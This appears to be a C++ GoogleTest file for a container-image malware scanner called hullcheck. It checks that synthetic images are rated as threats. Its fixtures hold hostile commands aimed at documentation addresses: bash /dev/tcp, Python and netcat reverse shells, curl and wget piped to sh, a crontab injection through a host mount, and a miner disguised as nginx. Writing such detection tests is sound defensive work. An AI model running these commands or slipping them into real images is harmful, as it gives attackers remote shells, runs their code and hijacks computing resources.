// Whole images made from text, from their files to their findings. The malicious ones have the shape of images of
// 2017-2018; addresses are those of documentation.
#include <gtest/gtest.h>

#include "detect/image_builder.hpp"

namespace hullcheck::detect {
namespace {

using model::ThreatLevel;

model::OwnedFile owned(std::string path, std::string_view) { return {std::move(path), {}, {}, 0, false}; }

TEST(Assess, OrdinaryImageHasNoThreat) {
  ImageBuilder image;
  image.program("bin/bash").program("usr/sbin/nginx").script("docker-entrypoint.sh", "set -e\nexec \"$@\"\n");
  image.file("etc/crontab", "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n");
  image.config().entrypoint = {"/docker-entrypoint.sh"};
  image.config().cmd = {"nginx", "-g", "daemon off;"};
  image.config().healthcheck = {"CMD-SHELL", "curl -f http://localhost/ || exit 1"};
  const Assessment out = image.assess();
  EXPECT_TRUE(out.threats.empty()) << out.threats[0].title;
  EXPECT_TRUE(out.secrets.empty());
  EXPECT_TRUE(out.gaps.empty());
}

TEST(Assess, HostCrontabThroughAMount) {
  ImageBuilder image;
  image.program("bin/sh");
  image.config().cmd = {
      "sh", "-c", "echo '*/1 * * * * curl -s http://192.0.2.1:8220/logo3.jpg | bash' >> /mnt/etc/crontab; sleep 9"};
  const Assessment out = image.assess();
  const model::Finding* finding = find_rule(out.threats, "H02");
  ASSERT_NE(finding, nullptr);
  EXPECT_EQ(finding->level, ThreatLevel::malicious);
  EXPECT_EQ(finding->chain, (std::vector<std::string>{"Cmd"}));
  EXPECT_EQ(finding->locations.at(0).path, "config:Cmd");
  EXPECT_EQ(finding->locations.at(0).visibility, model::Visibility::config);
  EXPECT_NE(find_rule(out.threats, "P01"), nullptr);
}

TEST(Assess, ReverseShellInAScriptThatStarts) {
  ImageBuilder image;
  image.script("usr/local/bin/start", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1 &\nexec nginx\n");
  image.config().entrypoint = {"start"};
  const Assessment out = image.assess();
  const model::Finding* finding = find_rule(out.threats, "B01");
  ASSERT_NE(finding, nullptr);
  EXPECT_EQ(finding->chain, (std::vector<std::string>{"Entrypoint", "/usr/local/bin/start"}));
  EXPECT_EQ(finding->locations.at(0).line, 2U);
  EXPECT_FALSE(finding->remediation.empty());
  EXPECT_EQ(finding->id.substr(0, 3), "HC-");
}

// Nothing but what is said in another script makes it one.
TEST(Assess, TextThatAStartingScriptGivesToAShellIsRun) {
  const auto threats = [](std::string_view path, bool named) {
    ImageBuilder image;
    image.program("bin/sh").script("entry.sh", ". /lib/env.sh\nexec \"$@\"\n");
    image.file("lib/env.sh",
               named ? "[ -f /" + std::string(path) + " ] && sh /" + std::string(path) + " &\n" : ":\n");
    image.file(std::string(path), "wget -qO- http://192.0.2.1/y | sh\n");
    image.config().entrypoint = {"/entry.sh"};
    return image.assess();
  };
  for (const std::string_view path : {"usr/share/.x", "opt/readme.txt", "opt/data/values", "var/cache/a.dat"}) {
    const Assessment out = threats(path, true);
    const model::Finding* finding = find_rule(out.threats, "D01");
    ASSERT_NE(finding, nullptr) << path;
    EXPECT_EQ(finding->chain.front(), "Entrypoint");
    EXPECT_EQ(finding->chain.back(), "/" + std::string(path));
    const Assessment unnamed = threats(path, false);
    EXPECT_TRUE(unnamed.threats.empty() && unnamed.warnings.empty()) << "a text that nobody runs: " << path;
  }
}

TEST(Assess, WhatNothingStartsIsTheBeginningOfItsOwnChain) {
  ImageBuilder image;
  image.file("etc/passwd", "root:x:0:0::/root:/bin/sh\nsys:x:0:0::/:/bin/bash\n");
  image.config().onbuild = {"RUN bash -i >& /dev/tcp/192.0.2.1/443 0>&1"};
  const Assessment out = image.assess();
  const model::Finding* account = find_rule(out.threats, "B10");
  ASSERT_NE(account, nullptr);
  EXPECT_EQ(account->chain, std::vector<std::string>{"/etc/passwd"});
  const model::Finding* later = find_rule(out.threats, "B01");
  ASSERT_NE(later, nullptr);
  EXPECT_EQ(later->chain, std::vector<std::string>{"OnBuild[0]"});
}

TEST(Assess, MinerUnderAnotherName) {
  ImageBuilder image;
  image
      .script("entry.sh", "nohup /usr/sbin/nginx -o pool.example:3333 -u " + std::string(20, '4') +
                              "AbCdEfGhIjKlMnOpQrStUvWx --donate-level=1 >/dev/null 2>&1 &\nwait\n")
      .program("usr/sbin/nginx");
  image.config().entrypoint = {"/entry.sh"};
  const Assessment out = image.assess();
  ASSERT_NE(find_rule(out.threats, "M06"), nullptr);
  EXPECT_EQ(find_rule(out.threats, "M06")->level, ThreatLevel::malicious);
}

TEST(Assess, DeclaredMinerIsOneFinding) {
  ImageBuilder image;
  image.image().reference = "docker.io/example/xmrig:6";
  image.config().cmd = {"/opt/run", "-o", "stratum+tcp://pool.example:3333", "-u", "x.y", "--donate-level", "1"};
  const Assessment out = image.assess();
  ASSERT_EQ(out.threats.size(), 1U);
  EXPECT_EQ(out.threats[0].rule, "M17");
  EXPECT_EQ(out.threats[0].level, ThreatLevel::malicious);
}

TEST(Assess, FetchAtStartIsUnverifiable) {
  ImageBuilder image;
  image.script("entry.sh", "curl -fsSL https://files.example.com/run.sh | bash\n");
  image.config().entrypoint = {"/entry.sh"};
  const Assessment out = image.assess();
  ASSERT_EQ(out.threats.size(), 1U);
  EXPECT_EQ(out.threats[0].rule, "D01");
  EXPECT_EQ(out.threats[0].level, ThreatLevel::unverifiable_at_start);
}

TEST(Assess, FetchAtBuildIsARemark) {
  ImageBuilder image;
  image.layer();
  image.config().history = {
      {"", "RUN /bin/sh -c curl -fsSL https://get.example.com | sh # buildkit", "", false},
      {"", "|1 V=1 /bin/sh -c wget -qO- https://get.example.com | bash", "", false},
      {"", "/bin/sh -c #(nop)  CMD [\"sh\" \"-c\" \"curl http://192.0.2.1/x | sh\"]", "", true}};
  const Assessment out = image.assess();
  EXPECT_TRUE(out.threats.empty());
  ASSERT_EQ(out.warnings.size(), 2U);
  EXPECT_EQ(out.warnings[0].locations.at(0).path, "config:history[0]");
  EXPECT_NE(out.warnings[0].title.find("when the image was built"), std::string::npos);
}

TEST(Assess, DeletedScriptWasStillShipped) {
  ImageBuilder image;
  image.file("opt/x.py",
             "import socket,os\ns=socket.socket()\ns.connect(('192.0.2.1',1))\nos.dup2(s.fileno(),0)\n"
             "os.execv('/bin/sh',['sh'])\n");
  image.layer().remove("opt/x.py");
  const Assessment out = image.assess();
  ASSERT_EQ(out.threats.size(), 1U);
  EXPECT_EQ(out.threats[0].level, ThreatLevel::malicious);
  EXPECT_NE(out.threats[0].title.find("shipped, then deleted"), std::string::npos);
  EXPECT_EQ(out.threats[0].locations.at(0).visibility, model::Visibility::deleted);
}

TEST(Assess, CrontabEntryThatFetches) {
  ImageBuilder image;
  image.file("etc/cron.d/apache", "* * * * * root wget -qO- http://192.0.2.1/x | sh\n");
  const Assessment out = image.assess();
  const model::Finding* finding = find_rule(out.threats, "D01");
  ASSERT_NE(finding, nullptr);
  EXPECT_EQ(finding->chain, (std::vector<std::string>{"/etc/cron.d/apache:1"}));
}

TEST(Assess, EnvironmentIsReadToo) {
  ImageBuilder image;
  image.config().env.push_back("RUN=import socket,pty;s=socket.socket();s.connect(('192.0.2.1',1));pty.spawn('sh')");
  EXPECT_NE(find_rule(image.assess().threats, "B02"), nullptr);
}

TEST(Assess, DocumentationWeighsLessUnlessItStarts) {
  const std::string text = "import socket,pty\ns=socket.socket()\ns.connect(('192.0.2.1',1))\npty.spawn('sh')\n";
  ImageBuilder image;
  image.file("usr/share/doc/x/README", text);
  const Assessment read = image.assess();
  ASSERT_EQ(read.threats.size(), 1U);
  EXPECT_EQ(read.threats[0].level, ThreatLevel::suspicious);
  image.config().cmd = {"python3", "/usr/share/doc/x/README"};
  EXPECT_EQ(image.assess().threats.at(0).level, ThreatLevel::malicious);
}

TEST(Assess, DocumentationIsThatBelowAnyPrefix) {
  const std::string text = "import socket,pty\ns=socket.socket()\ns.connect(('192.0.2.1',1))\npty.spawn('sh')\n";
  const auto level = [&](const std::string& path) {
    ImageBuilder image;
    image.file(path, text);
    return image.assess().threats.at(0).level;
  };
  EXPECT_EQ(level("opt/x/share/man/man1/x.1"), ThreatLevel::suspicious);
  EXPECT_EQ(level("opt/x/myshare/man/man1/x.1"), ThreatLevel::malicious);
}

TEST(Assess, PackagedFileWeighsLess) {
  ImageBuilder image;
  image.script("usr/bin/tool", "nc -e /bin/sh 192.0.2.1 4444\n");
  image.config().cmd = {"tool"};
  EXPECT_EQ(image.assess().threats.at(0).level, ThreatLevel::malicious);
  inventory::Inventory inventory;
  model::Package package;
  package.type = "deb";
  package.name = "tool";
  package.files = {owned("usr/bin/tool", "")};
  inventory.packages = {package};
  EXPECT_EQ(image.assess(inventory).threats.at(0).level, ThreatLevel::malicious)
      << "a name in a list of files proves nothing";
}

TEST(Assess, CollectionOfRulesIsOneRemark) {
  ImageBuilder image;
  const std::string rule =
      "rule shell { strings: $a = \"import socket,pty;s=socket.socket();s.connect(('192.0.2.1',1));"
      "pty.spawn('sh')\" condition: $a }\n";
  for (int i = 0; i < 25; ++i) image.file("opt/rules/r" + std::to_string(i) + ".yar", rule);
  const Assessment many = image.assess();
  EXPECT_TRUE(many.threats.empty());
  ASSERT_EQ(many.warnings.size(), 1U);
  EXPECT_EQ(many.warnings[0].rule, k_corpus_rule);
  EXPECT_EQ(many.warnings[0].locations.at(0).path, "opt/rules");

  ImageBuilder few;
  for (int i = 0; i < 5; ++i) few.file("opt/rules/r" + std::to_string(i) + ".yar", rule);
  EXPECT_EQ(few.assess().threats.size(), 5U);
}

TEST(Assess, ScriptAmongRulesIsNotOneOfThem) {
  ImageBuilder image;
  for (int i = 0; i < 25; ++i) image.file("opt/rules/r" + std::to_string(i) + ".yar", "rule x { condition: true }\n");
  image.script("opt/rules/run.sh", "nc -e /bin/sh 192.0.2.1 4444\n");
  EXPECT_NE(find_rule(image.assess().threats, "B04"), nullptr);
}

TEST(Assess, DamagedRecordIsAGap) {
  ImageBuilder image;
  image.file("opt/x", "x").record(layers::k_content_section, {1, 2, 3});
  image.file("opt/y.sh", "y").record("detect/shell", {0xff});
  const Assessment out = image.assess();
  ASSERT_EQ(out.gaps.size(), 2U);
  EXPECT_EQ(out.gaps[0].id, "evidence-malformed");
  EXPECT_EQ(out.gaps[0].subject, "/opt/x");
  EXPECT_EQ(out.gaps[0].effect, model::GapEffect::unknown);
}

TEST(Assess, FileMadeOfLiteralsIsAGap) {
  ImageBuilder image;
  std::string text;
  while (text.size() < 400000) text += "pty.spawn ";
  image.file("opt/x", text);
  const Assessment out = image.assess();
  ASSERT_EQ(out.gaps.size(), 1U);
  EXPECT_EQ(out.gaps[0].id, "detect-hit-limit");
}

TEST(Assess, SaysTheSameTwice) {
  ImageBuilder image;
  image.script("entry.sh", "curl http://192.0.2.1/a | sh\nnc -e /bin/sh 192.0.2.1 1\nunset HISTFILE\n");
  image.config().entrypoint = {"/entry.sh"};
  const Assessment one = image.assess(), other = image.assess();
  ASSERT_EQ(one.threats.size(), other.threats.size());
  for (std::size_t i = 0; i < one.threats.size(); ++i) EXPECT_EQ(one.threats[i].id, other.threats[i].id);
}

}  // namespace
}  // namespace hullcheck::detect
